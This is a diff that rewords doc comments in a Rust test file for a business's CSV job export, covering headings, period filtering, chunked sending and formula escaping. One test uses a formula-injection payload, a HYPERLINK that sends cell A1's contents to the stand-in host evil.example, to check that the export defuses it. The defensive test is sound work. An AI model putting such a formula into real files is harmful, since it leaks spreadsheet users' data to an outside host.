@@ -7,7 +7,7 @@ use crate::{
     support::{Response, on_each_engine},
 };
 
-/// Parses the CSV file. Returns the headings, and each line as an object with the headings as keys.
+/// Parses the exported CSV file. Returns the headings, and each line as an object with the headings as keys.
 fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
     assert_eq!(answer.status, 200, "{}", answer.text);
     assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
@@ -67,7 +67,7 @@ on_each_engine! {
         }));
     }
 
-    /// Each job has one line, however many visits and workers it has. rule: reports-export
+    /// In the export each job has one line, however many visits and workers it has. rule: reports-export
     async fn the_export_has_visits_workers_and_holds(engine) {
         let world = World::by_worker(engine).await;
         let zoe = world.hire("zoe").await;
@@ -86,7 +86,7 @@ on_each_engine! {
         ]);
     }
 
-    /// The period is two days in the business's time zone, both included. The file name contains these days.
+    /// The export's period is two days in the business's time zone, both included. The file name contains these days.
     async fn the_export_has_only_the_jobs_of_the_period(engine) {
         let world = World::new(engine).await;
         for start in ["2026-11-21T12:59:59Z", "2026-11-21T13:00:00Z", "2026-11-22T12:59:59Z", "2026-11-22T13:00:00Z"] {
@@ -106,7 +106,7 @@ on_each_engine! {
         assert_eq!((read(&none).0.len(), read(&none).1.len()), (27, 0), "only the headings");
     }
 
-    /// A cell that a spreadsheet would treat as a formula begins with an apostrophe.
+    /// If a spreadsheet would treat a value as a formula, the value's cell in the export begins with an apostrophe.
     async fn no_cell_of_the_export_is_treated_as_a_formula(engine) {
         let world = World::new(engine).await;
         let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
@@ -124,7 +124,7 @@ on_each_engine! {
         assert!(!lines[0].as_object().unwrap().values().any(dangerous));
     }
 
-    /// A business with more jobs than the server reads in one chunk. Many of the jobs have the same start.
+    /// The business has more jobs than the server reads in one chunk. Many of the jobs have the same start.
     async fn a_long_export_is_complete_and_sent_in_chunks(engine) {
         let world = World::new(engine).await;
         let job = world.book(json!({})).await;
